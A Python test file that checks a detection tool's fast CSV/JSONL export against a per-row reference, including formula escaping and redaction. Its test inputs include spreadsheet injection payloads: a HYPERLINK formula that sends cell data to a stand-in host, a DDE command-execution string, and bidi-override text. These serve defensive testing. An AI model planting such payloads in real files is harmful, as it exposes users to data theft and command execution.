"""The fast export path (plain rows read straight from the database, not validated again, formatted a batch at a
time) writes exactly the bytes of the per-row reference (each row validated by its body model, then
``model_dump_json`` or one CSV line at a time), for tricky values (nulls, nested JSON, commas, quotes and newlines,
unicode, formulas, floats pydantic and msgspec write differently, rung times in other forms), redacted and not, on
SQLite and PostgreSQL; a tricky row's cells are also checked by hand."""

from __future__ import annotations

import csv
import io
import json
import math
from collections.abc import Iterable, Iterator
from datetime import UTC, datetime, timedelta

import pytest
from pydantic import BaseModel
from sqlalchemy import update
from sqlalchemy.orm import Session, sessionmaker

from distillguard.api.cases import service as cases
from distillguard.api.cases.export import CASE_EXPORT_COLUMNS, case_rows
from distillguard.api.database import engine_for, session_scope
from distillguard.api.detections import evidence, queue
from distillguard.api.detections.models import AccountRow, ClusterRow
from distillguard.api.detections.schemas import AccountItem, QueueFilters
from distillguard.api.detections.service import bump_epoch, upsert_detections
from distillguard.api.overrides import service as overrides
from distillguard.api.tabular import NESTED, body, cell, columns, csv_lines, jsonl_lines
from distillguard.detector.records import AccountVerdict, ClusterVerdict, SubjectKind
from tests.api.conftest import Api
from tests.api.test_api_authz import SETUP

T0 = datetime(2026, 3, 2, 8, tzinfo=UTC)
REFERENCE_PAGE = 7  # rows per page of the reference reader: several pages over the seed and the tricky rows
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "-2+3",
    "@SUM(A1:A2)",
    "\tstarts with a tab",
    'quotes " and "" doubled, commas, , and\nnew\r\nlines',
    "中文 日本語 한국어 😀🛡️ e\u0301",
    "bidi \u202eevil\u202c \u2066isolate\u2069",
    "",
]
TEMPLATE = 'Summarise, "verbatim":\n=the text below'  # a prompt template: redacted unless asked
OVERRIDE_REASON = '=cmd|" /C calc"!A0, then\na second line'
# Rung times stored in other forms than the detector writes ("...Z"): an offset, no zone, milliseconds.
ODD_TIMES = {
    "watch": "2026-03-02T09:00:00+01:00",
    "review": "2026-03-02T08:00:00.5",
    "suspend": "2026-03-02T08:00:00.123Z",
}


def _tricky() -> tuple[list[AccountVerdict], ClusterVerdict]:
    """Accounts and a cluster whose every kind of field holds something hard to write."""
    cluster = 'c-tricky, "quoted"\n中文'
    accounts = [
        AccountVerdict(
            account_id='=acct-formula, "quoted"\n1',
            score=0.999,
            flagged=True,
            cluster_id=cluster,
            flagged_at=T0,
            reasons=HOSTILE,
            probability=1e20,  # pydantic writes 1e+20, msgspec 1e20
            action="throttle",
            action_basis=["a, b", "=x", "中文"],
            reached_at={"watch": T0, "throttle": T0 + timedelta(microseconds=1)},
            n_requests=2_147_483_647,
            first_seen=T0,
            last_seen=T0 + timedelta(seconds=1, microseconds=250_000),
            model_version="-v1",
            org_id="@org",
            verification_path="education",
            models=["m,1", 'm"2', "=m3"],
        ),
        AccountVerdict(
            account_id="acct-nulls-😀",
            score=0.998,
            flagged=False,
            cluster_id=None,
            flagged_at=None,
            reasons=[],
            probability=1e-7,
        ),
        AccountVerdict(
            account_id="acct-odd-floats",
            score=0.997,
            flagged=True,
            cluster_id=cluster,
            flagged_at=T0,
            reasons=["+1"],
            probability=math.inf,
            n_requests=0,
        ),
    ]
    return accounts, ClusterVerdict(
        cluster_id=cluster,
        members=[a.account_id for a in accounts],
        score=0.9995,
        flagged=True,
        flagged_at=T0,
        shared_indicators={"template": [TEMPLATE, "short"], "ip": ["=1+1", "203.0.113.9"], "asn": []},
        reasons=HOSTILE[::-1],
        probability=9.999999999999999e22,
        action="review",
        action_basis=['shares "a card"'],
        reached_at={"review": T0},
        n_requests=12,
        first_seen=None,
        last_seen=T0,
        model_version=None,
    )


@pytest.fixture
def tricky(api: Api) -> Api:
    """The seeded app with the tricky accounts and cluster, an override on one of each, and odd rung times."""
    accounts, cluster = _tricky()
    with session_scope(api.url) as s:
        upsert_detections(s, accounts, [cluster])
        s.execute(update(AccountRow).where(AccountRow.account_id == "acct-nulls-😀").values(reached_at=ODD_TIMES))
        s.execute(update(ClusterRow).where(ClusterRow.cluster_id == cluster.cluster_id).values(reached_at=ODD_TIMES))
        bump_epoch(s)
    with session_scope(api.url) as s:
        overrides.set_override(s, SETUP, SubjectKind.account, accounts[0].account_id, "suspend", OVERRIDE_REASON)
        overrides.set_override(s, SETUP, SubjectKind.cluster, cluster.cluster_id, "throttle", OVERRIDE_REASON)
    return api


def _reference_rows(sessions: sessionmaker[Session], kind: SubjectKind, redacted: bool) -> Iterator[BaseModel]:
    """The export as it was written before the fast path: the queue's pages (ORM rows, their items), each row
    validated by its body model."""
    model = queue.export_model(kind)
    cursor: str | None = None
    with sessions() as session:
        while True:
            rows, cursor, _ = queue.page(session, kind, QueueFilters(), cursor, REFERENCE_PAGE, templates=True)
            for row, item in zip(rows, queue.queue_items(session, kind, rows), strict=True):
                if kind is SubjectKind.cluster:
                    item["shared_indicators"] = evidence.indicators(row.shared_indicators, redacted)
                yield model.model_validate(item)
            if cursor is None:
                return


def _reference_csv(header: list[str], rows: Iterable[BaseModel]) -> bytes:
    """CSV as it was written before: one line per row, each cell :func:`cell` of the row's JSON value at its
    column's key path (the columns of the row's own model; any other is empty)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(header)
    for row in rows:
        data = row.model_dump(mode="json")
        flat: dict[str, object] = {}
        for column in columns(type(row)):
            value: object = data
            for key in column.split(NESTED):
                value = value.get(key) if isinstance(value, dict) else None
            flat[column] = value
        writer.writerow(cell(flat.get(c)) for c in header)
    return buffer.getvalue().encode()


def _reference(sessions: sessionmaker[Session], kind: SubjectKind, fmt: str, redacted: bool) -> bytes:
    rows = _reference_rows(sessions, kind, redacted)
    if fmt == "jsonl":
        return b"".join(row.model_dump_json().encode() + b"\n" for row in rows)
    return _reference_csv(columns(queue.export_model(kind), f"{kind.value}_id"), rows)


@pytest.mark.parametrize("redact", [True, False], ids=["redacted", "clear"])
@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
@pytest.mark.parametrize("kind", list(SubjectKind))
def test_the_export_is_byte_for_byte_the_per_row_reference(
    tricky: Api, kind: SubjectKind, fmt: str, redact: bool
) -> None:
    r = tricky.client.get(
        "/api/v1/detections/export",
        params={"kind": kind.value, "format": fmt, "redact": redact},
        headers=tricky.h("analyst"),
    )
    assert r.status_code == 200, r.text[:300]
    expected = _reference(sessionmaker(engine_for(tricky.url)), kind, fmt, redact)
    assert r.content.count(b"\n") > 0 and r.content == expected
    if kind is SubjectKind.cluster:
        assert ("verbatim" in r.text) is not redact  # the template, only when asked in clear


def test_a_tricky_accounts_cells_and_line(tricky: Api) -> None:
    """By hand, so that a column dropped or mis-written by both paths alike still fails."""
    accounts, cluster = _tricky()
    params: dict[str, str | float] = {"kind": "account", "format": "csv", "min_score": 0.995}
    r = tricky.client.get("/api/v1/detections/export", params=params, headers=tricky.h("viewer"))
    table = list(csv.reader(io.StringIO(r.text, newline="")))
    header, rows = table[0], {row[0]: dict(zip(table[0], row, strict=True)) for row in table[1:]}
    assert header == columns(AccountItem, "account_id") and len(header) == 26
    first = rows["'" + accounts[0].account_id]
    assert first == {
        "account_id": '\'=acct-formula, "quoted"\n1',
        "probability": "1e+20",
        "action": "throttle",
        "action_basis": "a, b; =x; 中文",
        "reached_at": '{"throttle":"2026-03-02T08:00:00.000001Z","watch":"2026-03-02T08:00:00Z"}',
        "applied_action": "suspend",
        "override.action": "suspend",
        "override.recommended": "throttle",
        "override.reason": "'" + OVERRIDE_REASON,
        "override.by": "setup",
        "override.role": "admin",
        "override.at": first["override.at"],
        "override.model_version": "'-v1",
        "score": "0.999",
        "flagged": "true",
        "flagged_at": "2026-03-02T08:00:00Z",
        "cluster_id": cluster.cluster_id,
        "n_requests": "2147483647",
        "first_seen": "2026-03-02T08:00:00Z",
        "last_seen": "2026-03-02T08:00:01.250000Z",
        "model_version": "'-v1",
        "verification_path": "education",
        "org_id": "'@org",
        "models": 'm,1; m"2; =m3',
        "status": "new",
        "reasons": "'" + "; ".join(HOSTILE),
    }
    assert datetime.fromisoformat(first["override.at"]).tzinfo is not None
    nulls = rows["acct-nulls-😀"]
    assert [nulls[c] for c in ("probability", "cluster_id", "flagged", "flagged_at", "reasons", "org_id")] == [
        "1e-07",
        "",
        "false",
        "",
        "",
        "",
    ]
    assert json.loads(nulls["reached_at"]) == {
        "review": "2026-03-02T08:00:00.500000",
        "suspend": "2026-03-02T08:00:00.123000Z",
        "watch": "2026-03-02T09:00:00+01:00",
    }
    assert rows["acct-odd-floats"]["probability"] == "inf"  # (SQLite stores no nan)
    r = tricky.client.get("/api/v1/detections/export", params=params | {"format": "jsonl"}, headers=tricky.h("viewer"))
    lines = {json.loads(line)["account_id"]: line for line in r.text.splitlines()}
    assert lines["acct-nulls-😀"] == (
        '{"probability":1e-7,"action":"none","action_basis":[],"reached_at":{"watch":"2026-03-02T09:00:00+01:00",'
        '"review":"2026-03-02T08:00:00.500000","suspend":"2026-03-02T08:00:00.123000Z"},"applied_action":"none",'
        '"override":null,"account_id":"acct-nulls-😀","score":0.998,"flagged":false,"flagged_at":null,'
        '"cluster_id":null,"n_requests":0,"first_seen":null,"last_seen":null,"model_version":null,'
        '"verification_path":null,"org_id":null,"models":[],"status":"new","reasons":[]}'
    )
    assert '"probability":1e+20,' in lines[accounts[0].account_id]
    assert '"probability":null,' in lines["acct-odd-floats"]


def test_a_case_export_is_the_per_row_reference(tricky: Api) -> None:
    """A case's rows are validated models; the batch formatting writes them as the per-row reference does."""
    _, cluster = _tricky()
    with session_scope(tricky.url) as s:
        case = cases.open_case(s, SETUP, "cluster", cluster.cluster_id, "triage")
        cases.comment(s, SETUP, case, HOSTILE[0])
        case_id = case.id
    sessions = sessionmaker(engine_for(tricky.url))
    for fmt in ("csv", "jsonl"):
        r = tricky.client.get(f"/api/v1/cases/{case_id}/export", params={"format": fmt}, headers=tricky.h("analyst"))
        rows = case_rows(sessions, case_id, True)
        expected = (
            _reference_csv(CASE_EXPORT_COLUMNS, rows)
            if fmt == "csv"
            else b"".join(row.model_dump_json().encode() + b"\n" for row in rows)
        )
        assert r.status_code == 200 and r.content == expected


class _Inner(BaseModel):
    at: datetime
    note: str | None


class _Every(BaseModel):
    """A body with every kind of field a download writes."""

    id: str
    flag: bool
    count: int
    ratio: float
    when: datetime | None
    tags: list[str]
    numbers: list[float]
    times: dict[str, datetime]
    extra: dict[str, object]
    inner: _Inner | None


EVERY = [
    {
        "id": "=1+2",
        "flag": True,
        "count": 2**70,
        "ratio": 1e16,
        "when": datetime(2026, 1, 2, 3, 4, 5, 600, tzinfo=UTC),
        "tags": ["a,b", '"q"', "\n", "😀"],
        "numbers": [1e16, 1e-7, -0.0, 0.1],
        "times": {"b": datetime(2026, 1, 1, tzinfo=UTC), "a": datetime(2026, 1, 1, 1)},
        "extra": {"nested": {"deep": [1, None, "x\u2028y"]}, "f": 1.5e300},
        "inner": {"at": datetime(2026, 5, 6, tzinfo=UTC), "note": "-"},
    },
    {
        "id": "plain",
        "flag": False,
        "count": -1,
        "ratio": math.inf,
        "when": None,
        "tags": [],
        "numbers": [],
        "times": {},
        "extra": {},
        "inner": None,
    },
]


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_body_dicts_are_written_as_their_models_are(fmt: str) -> None:
    """Unit level, every kind of field: the fields of a body (not validated) give the bytes of the validated
    model written one row at a time."""
    models = [_Every.model_validate(data) for data in EVERY]
    dicts = [body(_Every, m.model_dump()) for m in models]
    header = columns(_Every, "id")
    if fmt == "csv":
        written = b"".join(csv_lines(header, dicts))
        assert written == _reference_csv(header, models) == b"".join(csv_lines(header, models))
        assert written.splitlines()[0] == b"id,flag,count,ratio,when,tags,numbers,times,extra,inner.at,inner.note"
    else:
        written = b"".join(jsonl_lines(dicts))
        assert written == b"".join(m.model_dump_json().encode() + b"\n" for m in models)
        assert b'"ratio":1e+16' in written and b'"ratio":null' in written


def test_body_takes_the_models_fields_in_its_order_and_refuses_a_missing_one() -> None:
    data = {"note": None, "at": datetime(2026, 1, 1, tzinfo=UTC), "ignored": 1}
    assert list(body(_Inner, data)) == ["at", "note"]
    with pytest.raises(KeyError, match="note"):
        body(_Inner, {"at": data["at"]})
